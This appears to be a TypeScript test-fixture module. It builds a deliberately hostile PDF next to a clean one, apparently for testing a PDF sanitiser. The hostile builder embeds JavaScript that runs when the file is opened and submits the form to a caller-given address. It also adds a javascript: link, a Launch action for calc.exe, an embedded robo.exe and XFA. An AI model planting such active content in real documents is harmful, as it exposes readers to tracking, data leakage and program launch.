/**
 * A valid PDF of one page with this text, and with everything that a PDF can do besides being read: scripts that run at
 * its opening, links of all kinds, a form that sends itself, a program, an embedded file. `theirs`: the address that
 * all of these use.
 */
export function hostil(text: string, theirs: string): string {
  const script = `app.alert('x'); app.launchURL('${theirs}'); this.submitForm('${theirs}')`
  const js = `<< /S /JavaScript /JS (${script.replaceAll(/[()]/g, String.raw`\$&`)}) >>`
  const content = `BT /F1 24 Tf 72 700 Td (${text}) Tj ET`
  const area = '/Rect [0 0 600 800] /Border [0 0 0]'
  const link = (action: string) => `<< /Type /Annot /Subtype /Link ${area} /A ${action} >>`
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${js} /AA << /WC ${js} /DS ${js} >> /AcroForm << /Fields [12 0 R] /XFA [(x) 13 0 R] >> /Names << /JavaScript << /Names [(a) ${js}] >> /EmbeddedFiles << /Names [(f) 11 0 R] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R 12 0 R] /AA << /O ${js} >> >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    link(`<< /S /URI /URI (${theirs}) >>`),
    link('<< /S /URI /URI (javascript:alert\\(1\\)) >>'),
    link('<< /S /Launch /F (calc.exe) >>'),
    link(`<< /S /SubmitForm /F (${theirs}) >>`),
    link(`<< /S /GoToR /F (${theirs}) /D [0 /Fit] >>`),
    '<< /Type /Filespec /F (robo.exe) /EF << /F 13 0 R >> >>',
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (campo) ${area} /AA << /K ${js} >> >>`,
    '<< /Length 3 >>\nstream\nxfa\nendstream',
  ]
  return withTable(objects)
}

/** A sound PDF of one page with this text. */
export function pdfDe(text: string): string {
  const content = `BT /F1 24 Tf 72 700 Td (${text}) Tj ET`
  return withTable([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ])
}

/** The objects in their order, with the table of their positions. */
export function withTable(objects: readonly string[]): string {
  let body = '%PDF-1.7\n'
  const places = objects.map((object, at) => {
    const place = body.length
    body += `${at + 1} 0 obj\n${object}\nendobj\n`
    return `${String(place).padStart(10, '0')} 00000 n \n`
  })
  const size = objects.length + 1
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}`
  return `${body}${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`
}
